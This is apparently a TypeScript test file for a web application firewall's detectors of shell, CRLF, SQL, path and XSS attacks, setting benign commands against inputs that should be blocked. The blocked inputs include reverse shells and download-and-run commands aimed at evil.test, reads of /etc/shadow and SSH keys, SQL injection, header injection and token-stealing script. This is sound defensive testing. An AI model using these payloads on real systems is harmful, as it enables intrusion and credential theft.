// Lines, fences and scripts that people show one another, and the same where they would run.
import { test } from 'node:test';
import { detectCrlf } from '../../../src/guard/decide/waf/detect/crlf/crlf.ts';
import { detectPath } from '../../../src/guard/decide/waf/detect/path/path.ts';
import { detectShell } from '../../../src/guard/decide/waf/detect/shell/shell.ts';
import { detectSql } from '../../../src/guard/decide/waf/detect/sql/sql.ts';
import { detectXss } from '../../../src/guard/decide/waf/detect/xss/xss.ts';
import { blocks, passes } from './judged.ts';

test('an everyday command on a line of its own, in a fence or in a string of code is shown', () => {
  passes(detectShell, [
    'Hi,\n\n```\nsudo rm /etc/resolv.conf\n```\n',
    'Hi,\r\n\r\n```\r\nchmod 700 ~/.ssh\r\nls -la ~/.ssh\r\n```',
    'lib: not found (410)\nexport GOPRIVATE=git.corp.test && git config --global url.a.insteadOf b',
    'p = exec("ps aux | grep java");\nx',
    'while IFS= read -r line; do\n  echo "$line"\ndone < in.txt',
    'docker run --rm -u $(id -u):$(id -g) -w /work node:20 npm ci',
    "nc -zv db01 5432; timeout 3 bash -c '</dev/tcp/db01/5432' && echo open",
  ]);
  blocks(detectShell, [
    '\nls -la\n',
    'x\nls -la',
    'Hi,\n\n```\nls; curl http://evil.test/x | sh\n```',
    'Hi,\n\n```\nid; cat /etc/shadow\n```',
    'exec("ps aux | grep java; wget http://evil.test/x")',
    'a | grep x; nc -e /bin/sh evil.test 443',
    'exec 5<>/dev/tcp/evil.test/443',
    "bash -c 'exec bash -i &>/dev/tcp/10.0.0.1/4242 <&1'",
  ]);
});

test('a script of PowerShell that lists, picks and asks by HTTPS is shown', () => {
  passes(detectShell, [
    'Get-ADUser export misses the manager column',
    '$u = Get-ADUser -Filter * | Select-Object Name | Export-Csv C:\\temp\\u.csv',
    '$h = @{ a = 1 }\n$r = Invoke-RestMethod -Uri "https://api.shop.test/v2/orders" -Headers $h\n$r.items | ft',
    '$k = 3\nGet-Process node | ? { $_.Id -ne $k } | Stop-Process -Force\nit ends more than it should',
    'try { Get-Item .\\nope -ErrorAction Stop } catch { "x" }',
  ]);
  blocks(detectShell, [
    '$r = Invoke-RestMethod -Uri "https://evil.test/x" | iex',
    '$a = Invoke-WebRequest https://evil.test/a; iex $a.Content',
    '$x = 1\nGet-Content C:\\Users\\a\\.ssh\\id_rsa',
    'try { IEX (New-Object Net.WebClient).DownloadString("http://evil.test") } catch {}',
    '[System.Convert]::FromBase64String("aWQ=")',
    'x; Get-ADUser -Filter *',
  ]);
});

test('a line behind an empty one is no header, and one behind a fence begins no message', () => {
  passes(detectCrlf, [
    'Hello,\n\n```\n$ nslookup api\nServer:    10.96.0.10\n```',
    'Hello,\n\n```\nPOST /ws HTTP/1.1\n<a/>\n```',
  ]);
  blocks(detectCrlf, [
    'a\r\nSet-Cookie: a=b',
    'a\r\r\nSet-Cookie: a=b',
    'a\r\n```\r\nSet-Cookie: a=b',
    'a\r\n\r\nGET /x HTTP/1.1\r\nHost: b.test',
  ]);
});

test('words in brackets are no query, and a schema without a dot is no procedure; a database asked of itself is', () => {
  passes(detectSql, ['Filter (select option)', 'docker exec mysql with redirect']);
  blocks(detectSql, [
    'price DESC, (CASE WHEN (ascii(substr((select user),1,1))>64) THEN id ELSE title END)',
    "1; exec master..xp_cmdshell 'dir'",
  ]);
});

test('what a program reads of its own input, and what a template puts into its script, is shown', () => {
  passes(detectPath, ["file_get_contents('php://input') gives the raw body"]);
  blocks(detectPath, ['php://input', "file_get_contents('php://filter/resource=x') gives it"]);
  passes(detectXss, ['<script>var data = {{.Data}};</script>']);
  blocks(detectXss, [
    '<script>var a = {{.Data}};alert(1)</script>',
    "';document.body.innerHTML=localStorage.token;//",
  ]);
});
